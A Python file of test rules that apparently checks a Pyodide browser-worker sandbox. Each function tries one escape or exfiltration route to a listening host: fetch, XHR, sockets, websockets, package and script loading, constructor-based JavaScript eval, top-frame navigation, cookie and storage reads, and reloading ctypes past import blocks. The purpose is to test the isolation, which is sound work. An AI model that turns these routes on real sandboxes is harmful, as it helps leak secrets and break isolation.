"""Rules as somebody might paste them: each one tries a way out of the isolation.

Each function is a rule of its own. `HOST` is where something listens. A rule gives True when its
way was open, so that it shows as passed; a request may also arrive although the rule failed later.
"""

HOST = ""


def restore_fetch():
    """The worker has put a `fetch` of its own over the browser's."""
    import js

    js.self.fetch = js.WorkerGlobalScope.prototype.fetch.bind(js.self)


def script(way):
    return f"const r = new XMLHttpRequest(); r.open('GET', 'http://{HOST}/{way}?secret'); r.send()"


def through_js_fetch(option):
    import js

    restore_fetch()
    js.fetch(f"http://{HOST}/js_fetch?secret")
    return True


def through_pyfetch(option):
    import asyncio

    restore_fetch()
    from pyodide.http import pyfetch

    fetching = asyncio.ensure_future(pyfetch(f"http://{HOST}/pyfetch?secret"))
    return fetching is not None


def through_pyxhr(option):
    from pyodide.http import pyxhr

    return pyxhr.get(f"http://{HOST}/pyxhr?secret").status_code > 0


def through_xhr(option):
    import js

    request = js.XMLHttpRequest.new()
    request.open("GET", f"http://{HOST}/xhr?secret", False)
    request.send()
    return True


def through_websocket(option):
    import js

    return js.WebSocket.new(f"ws://{HOST}/websocket?secret").readyState == 0


def through_events(option):
    import js

    return js.EventSource.new(f"http://{HOST}/events?secret").readyState == 0


def through_urllib(option):
    import urllib.request

    return urllib.request.urlopen(f"http://{HOST}/urllib?secret").status > 0


def through_socket(option):
    # What `socket` is made of; that itself is not in the library.
    import _socket

    host, port = HOST.split(":")
    connection = _socket.socket(_socket.AF_INET, _socket.SOCK_STREAM)
    connection.settimeout(0.1)
    connection.connect((host, int(port)))
    connection.send(b"GET /socket?secret HTTP/1.1\r\n\r\n")
    return True


def through_packages(option):
    import pyodide_js

    pyodide_js.loadPackage(f"http://{HOST}/packages?secret-1-py3-none-any.whl")
    return True


def through_function(option):
    import js

    js.Function.new(script("function"))()
    return True


def through_eval(option):
    from pyodide.code import run_js

    run_js(script("eval"))
    return True


def through_constructors(option):
    """Any object of JavaScript leads to `Function`."""
    import sys

    # The garbage collector does not know them: they are found where somebody keeps them by name.
    kept = [
        value
        for module in list(sys.modules.values())
        for value in getattr(module, "__dict__", {}).values()
    ]
    for thing in [value for value in kept if type(value).__name__ == "JsProxy"]:
        try:
            thing.constructor.constructor(script("constructors"))()
            return True
        except Exception:
            continue
    return False


def through_webloop(option):
    from pyodide import webloop

    webloop.scheduleCallback.constructor.constructor(script("webloop"))()
    return True


def through_package_loader(option):
    from pyodide import _package_loader

    _package_loader.loadedPackages.constructor.constructor(script("package_loader"))()
    return True


def through_to_js(option):
    from pyodide.ffi import to_js

    to_js([]).constructor.constructor(script("to_js"))()
    return True


def through_nested(option):
    import js
    from pyodide.ffi import to_js

    blob = js.Blob.new(to_js([script("nested")]))
    js.Worker.new(js.URL.createObjectURL(blob))
    return True


def through_scripts(option):
    import js

    js.importScripts(f"http://{HOST}/scripts?secret")
    return True


def through_font(option):
    import js

    js.FontFace.new("secret", f"url(http://{HOST}/font?secret)").load()
    return True


def through_database(option):
    import js

    return bool(js.indexedDB.open("secret"))


def through_caches(option):
    import js

    return bool(js.caches.open("secret"))


def through_channel(option):
    import js

    js.BroadcastChannel.new("test").postMessage("secret")
    return True


def through_storage(option):
    import js

    return js.localStorage.length > 0


def through_cookies(option):
    import js

    return isinstance(js.document.cookie, str)


def through_cookie_store(option):
    import js

    return bool(js.cookieStore.getAll())


def through_parent(option):
    import js

    return bool(js.parent.document.title)


def through_top(option):
    import js

    return bool(js.top.localStorage.length)


def through_navigation(option):
    import js

    js.location.href = f"http://{HOST}/navigation?secret"
    return True


def through_top_navigation(option):
    import js

    js.top.location = f"http://{HOST}/top?secret"
    return True


def through_window(option):
    import js

    return bool(js.open(f"http://{HOST}/window?secret"))


def through_memory(option):
    import ctypes

    return bool(ctypes.CDLL(None))


def through_native_calls(option):
    import _ctypes

    return _ctypes.dlopen(None, 0) is not None


def through_native_calls_anew(option):
    """The module made once more, past what stands in the way of importing it."""
    import _imp
    from importlib.machinery import BuiltinImporter, ModuleSpec

    native = _imp.create_builtin(ModuleSpec("_ctypes", BuiltinImporter))
    _imp.exec_builtin(native)
    return native.dlopen(None, 0) is not None


def through_environment(option):
    """What a process tells of where it runs."""
    import os

    return any("http" in value for value in os.environ.values())
